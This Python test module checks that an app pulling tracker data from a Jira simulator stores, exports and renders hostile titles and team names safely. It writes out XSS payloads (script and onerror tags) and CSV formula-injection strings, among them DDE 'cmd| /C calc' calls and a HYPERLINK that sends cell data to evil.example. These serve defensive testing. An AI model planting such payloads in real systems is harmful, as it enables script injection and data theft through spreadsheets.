"""Hostile strings in tracker data, pulled through the Jira simulator, stored and served.

Every work item's title carries something an attacker with write access to the tracker could
type: HTML and script, a 100,000-character field, right-to-left text and emoji, control
characters (NUL excepted: neither JSON from a tracker nor PostgreSQL text carries it), and
spreadsheet formulas (OWASP CSV injection). Team names, from the configuration, are hostile
too. The store keeps the titles byte for byte, JSON gives them back exactly, CSV parses back
with formula cells neutralised by a leading quote, the digest's HTML escapes them, and every
chart renders.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

import pytest
from fastapi.testclient import TestClient
from markupsafe import escape
from sqlalchemy import select

from app.demo import ENV, jira_source
from app.main import create_app
from app.settings import Settings
from app.tokens import create_token
from art.config import TrainyardConfig
from art.db import upgrade
from art.models import WorkItem
from connectors.simulators.generator import generate_art
from connectors.simulators.jira import create_jira_simulator
from connectors.simulators.scenario import Scenario
from connectors.simulators.server import serve
from sync.runner import PullRunner
from tests.conftest import BACKENDS, PG_URL, bearer, drop_pg_database, pg_database
from tests.reliability.support import JIRA_USERS

FORMULA = ("=", "+", "-", "@", "\t", "\r")  # OWASP: cells a spreadsheet may run as formulas


def _script(key: str) -> str:
    return f"<script>alert('{key}')</script><img src=x onerror=alert(1)>"


VARIANTS = [
    lambda k: f"{_script(k)} plain & <b>bold</b> \"quoted\", 'single'",
    lambda k: "A" * 50_000 + _script(k) + "Z" * (50_000 - len(_script(k))),  # 100,000 chars
    lambda k: (
        f"\u202eRTL override \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 "
        f"\U0001f682\U0001f525\U0001f469\u200d\U0001f469\u200d\U0001f467 e\u0301 {_script(k)}"
    ),
    lambda k: (
        f"bell\x07 esc\x1b[31m del\x7f tab\t nl\n cr\r vt\x0b ff\x0c \u2028\u2029 {_script(k)}"
    ),
    lambda k: f'=HYPERLINK("http://evil.example/?"&A1,"{k}") {_script(k)}',
    lambda k: f"+1+cmd|' /C calc'!A0 {_script(k)}",
    lambda k: f"-2+3 {_script(k)}",
    lambda k: f"@SUM(1+1)*cmd|' /C calc'!A0 {_script(k)}",
    lambda k: f"\t=1+1 {_script(k)}",
    lambda k: f"\r=1+1 {_script(k)}",
]
TEAM_NAMES = {  # project key -> the team's name in the configuration
    "ATLAS": "<script>alert('team')</script> & Co",
    "BOREALIS": '=HYPERLINK("http://evil.example") $\\frac$ 50% _x^2_',
    "COMET": "\u0641\u0631\u064a\u0642 \u202e\U0001f682 \u05e9\u05dc\u05d5\u05dd \x07\x1b[0m",
}


def hostile_scenario() -> Scenario:
    base = generate_art(seed=9, items=60, teams=3)
    items = [
        replace(item, title=VARIANTS[n % len(VARIANTS)](item.key))
        for n, item in enumerate(base.items)
    ]
    return replace(base, items=items)


SCENARIO = hostile_scenario()
TITLES = {i.key: i.title for i in SCENARIO.items if not i.deleted}
TEAMS = {t: TEAM_NAMES[t.upper()] for t in SCENARIO.teams}


@dataclass
class Served:
    client: TestClient
    read: dict[str, str]
    admin: dict[str, str]

    def get(self, path: str, **params: Any) -> Any:
        return self.client.get(path, params=params, headers=self.read)


@pytest.fixture(scope="module", params=BACKENDS)
def served(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Served]:
    """SCENARIO pulled from the Jira simulator into a store behind the app, per backend."""
    tmp = tmp_path_factory.mktemp("hostile")
    pg_name = None
    if request.param == "sqlite":
        store_url = f"sqlite:///{tmp / 'store.db'}"
        upgrade(store_url)
    elif PG_URL is None:
        pytest.skip("TRAINYARD_TEST_POSTGRES_URL is not set")
    else:
        store_url, pg_name = pg_database()
    with (
        pytest.MonkeyPatch.context() as mp,
        serve(create_jira_simulator(SCENARIO, users=JIRA_USERS)) as url,
    ):
        for name, value in ENV.items():
            mp.setenv(name, value)
        config = TrainyardConfig.model_validate(
            {
                "arts": [
                    {
                        "name": SCENARIO.art,
                        "timezone": SCENARIO.timezone,
                        "teams": [{"name": n} for n in TEAMS.values()],
                        "pis": [
                            {"name": p.name, "start": p.start, "end": p.end} for p in SCENARIO.pis
                        ],
                    }
                ],
                "sources": [
                    jira_source(
                        "jira",
                        url,
                        SCENARIO,
                        list(SCENARIO.teams),
                        team_rule={"by": "project", "names": dict(TEAM_NAMES)},
                        statuses=dict(SCENARIO.statuses),
                    )
                ],
            }
        )
        settings = Settings(database_url=store_url, scheduler=False, data_dir=tmp / "data")
        with TestClient(create_app(settings, config)) as client:
            state = client.app.state.trainyard  # type: ignore[attr-defined]
            result = PullRunner(state.sessions, config, config.source("jira")).run()
            assert (result.status, result.item_errors) == ("succeeded", [])
            with state.sessions() as s, s.begin():
                read = create_token(s, "hostile-read", ["read"])
                admin = create_token(s, "hostile-admin", ["admin"])
            state.extras["outgoing"].stop()
            yield Served(client, bearer(read), bearer(admin))
    if pg_name is not None:
        drop_pg_database(pg_name)


def test_the_scenario_is_hostile_enough() -> None:
    assert max(len(t) for t in TITLES.values()) == 100_000
    assert {t[0] for t in TITLES.values()} >= set(FORMULA)
    assert all("<script>" in t for t in TITLES.values())


def test_titles_are_stored_byte_for_byte(served: Served) -> None:
    state = served.client.app.state.trainyard  # type: ignore[attr-defined]
    with state.sessions() as s:
        rows = s.execute(select(WorkItem.key, WorkItem.title).where(WorkItem.key.in_(list(TITLES))))
        stored = {key: title for key, title in rows}
    assert stored == TITLES


def _items(served: Served, **params: Any) -> Any:
    resp = served.get("/api/v1/items", art=SCENARIO.art, limit=1000, **params)
    assert resp.status_code == 200
    return resp


def test_json_gives_the_titles_and_team_names_back_exactly(served: Served) -> None:
    resp = _items(served)
    assert resp.headers["content-type"] == "application/json"
    data = resp.json()["data"]
    assert {r["key"]: r["title"] for r in data if r["key"] in TITLES} == TITLES
    teams = {i.key: TEAMS[i.team] for i in SCENARIO.items if not i.deleted}
    assert {r["key"]: r["team"] for r in data if r["key"] in TITLES} == teams


def _neutral(value: str) -> str:
    return "'" + value if value.startswith(FORMULA) else value


def test_csv_parses_back_and_formula_cells_are_neutralised(served: Served) -> None:
    resp = _items(served, format="csv")
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert all(len(row) == len(header) for row in body)
    by_key = {row[header.index("key")]: row for row in body}
    assert {k: by_key[k][header.index("title")] for k in TITLES} == {
        k: _neutral(t) for k, t in TITLES.items()
    }
    teams = {i.key: _neutral(TEAMS[i.team]) for i in SCENARIO.items if not i.deleted}
    assert {k: by_key[k][header.index("team")] for k in TITLES} == teams
    # nothing a spreadsheet would run, in any text cell of the export
    assert not [c for row in body for c in row if c.startswith(FORMULA)]


def test_report_csv_neutralises_formula_titles_and_teams(served: Served) -> None:
    pi = SCENARIO.pis[-2].name  # the current PI
    resp = served.get(f"/api/v1/arts/{SCENARIO.art}/pis/{pi}/dependencies", format="csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert body  # the generated ART has dependencies in every PI
    titles = [i for i, name in enumerate(header) if name.endswith((".title", ".team"))]
    assert titles
    cells = [row[i] for row in body for i in titles]
    assert not [c for c in cells if c.startswith(FORMULA)]
    originals = set(TITLES.values()) | set(TEAMS.values())
    odd = [c for c in cells if c and c not in originals and c[1:] not in originals]
    assert odd == []


def test_the_digest_html_escapes_titles_and_team_names(served: Served) -> None:
    created = served.client.post(
        "/api/v1/digests",
        json={
            "name": "<b>Weekly</b> <script>alert('name')</script>",
            "art": SCENARIO.art,
            "cron": "0 8 * * MON",
            "recipients": ["rte@example.com"],
        },
        headers=served.admin,
    )
    assert created.status_code == 201
    html = served.client.get(
        f"/api/v1/digests/{created.json()['id']}/preview", headers=served.admin
    ).text
    lowered = html.lower()
    assert "<script" not in lowered and "<img src=x" not in lowered and "<b>" not in lowered
    assert str(escape(TEAM_NAMES["ATLAS"])) in html  # the team table names it, escaped
    shown = [k for k in TITLES if str(escape(_script(k))) in html]
    assert shown  # dependency providers with their (escaped) titles
    assert str(escape("<b>Weekly</b> <script>alert('name')</script>")) in html


CHARTS = {  # chart -> whether it takes ?team=
    "cfd": True,
    "throughput": True,
    "cycle-time": True,
    "aging": True,
    "burnup": True,
    "predictability": False,
}


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # emoji, control characters
@pytest.mark.parametrize("chart", list(CHARTS))
def test_every_chart_renders_with_hostile_team_names(served: Served, chart: str) -> None:
    teams: list[str | None] = [None, *TEAMS.values()] if CHARTS[chart] else [None]
    for team in teams:
        params = {} if team is None else {"team": team}
        svg = served.get(f"/api/v1/arts/{SCENARIO.art}/charts/{chart}.svg", **params)
        assert (svg.status_code, svg.headers["content-type"]) == (200, "image/svg+xml"), team
        root = ET.fromstring(svg.content)  # well-formed XML: the names are escaped
        assert root.tag == "{http://www.w3.org/2000/svg}svg"
        assert b"<script" not in svg.content
    params = {"team": TEAM_NAMES["BOREALIS"]} if CHARTS[chart] else {}
    png = served.get(f"/api/v1/arts/{SCENARIO.art}/charts/{chart}.png", **params)
    assert png.status_code == 200 and png.content.startswith(b"\x89PNG\r\n\x1a\n")
